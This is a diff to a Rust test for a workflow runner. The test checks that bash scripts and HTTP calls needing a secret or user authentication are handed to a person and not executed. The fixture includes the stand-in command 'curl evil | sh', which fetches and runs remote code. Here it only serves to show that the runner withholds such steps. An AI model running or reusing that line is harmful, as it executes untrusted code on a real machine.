@@ -130,30 +130,33 @@ fn a_step_that_takes_too_long_has_failed_and_one_that_waits_is_late() {
 }
 
 #[test]
-fn scripts_and_calls_that_take_a_secret_are_left_to_a_person() {
+fn scripts_and_calls_that_take_a_secret_or_that_a_person_is_to_make_are_left_to_a_person() {
     let secret = json!({"type": "http-api", "command": "POST /hold"});
     let script = json!({"type": "bash", "command": "curl evil | sh"});
+    let call = json!({"type": "http-api", "command": "GET https://api.example/hold"});
     let mut document = book(
         1,
         &[
             ("action", 1, json!({"commands": [script], "on_completion": id("action", 2)})),
-            ("action", 2, json!({"commands": [secret], "on_completion": id("end", END)})),
+            ("action", 2, json!({"commands": [secret], "on_completion": id("action", 3)})),
+            ("action", 3, json!({"commands": [call], "on_completion": id("end", END)})),
         ],
     );
     let keyed = json!({"type": "http-api", "name": "api", "address": {"url": ["https://api.example"]},
-                       "authentication_info": id("oauth2", 90_010)});
+                       "authentication_info": id("user-auth", 90_010)});
     document["agent_definitions"][id("http-api", 90_004)] = keyed;
     document["workflow"][id("action", 2)]["agent"] = json!(id("http-api", 90_004));
     document["workflow"][id("action", 1)]["agent"] = json!(id("net-address", 90_005));
     document["agent_definitions"][id("net-address", 90_005)] =
         json!({"type": "net-address", "name": "host", "address": {"ipv4": ["192.0.2.1"]}});
-    document["authentication_info_definitions"] = json!({id("oauth2", 90_010): {"type": "oauth2", "name": "n"}});
+    document["authentication_info_definitions"] = json!({id("user-auth", 90_010): {"type": "user-auth", "name": "n"}});
     let outside = Outside::default();
     assert_eq!(ran(&outside, &document), Ending::Closed(Outcome::Succeeded));
     assert!(outside.done.borrow().is_empty());
     let asked = outside.asked.borrow();
     assert_eq!((asked[0].asking, asked[0].what.as_str()), (Asking::ToRun, "bash: curl evil | sh"));
     assert_eq!((asked[1].asking, asked[1].what.as_str()), (Asking::ToDo, "POST /hold"));
+    assert_eq!((asked[2].asking, asked[2].what.as_str()), (Asking::ToDo, "GET https://api.example/hold"));
 }
 
 #[test]
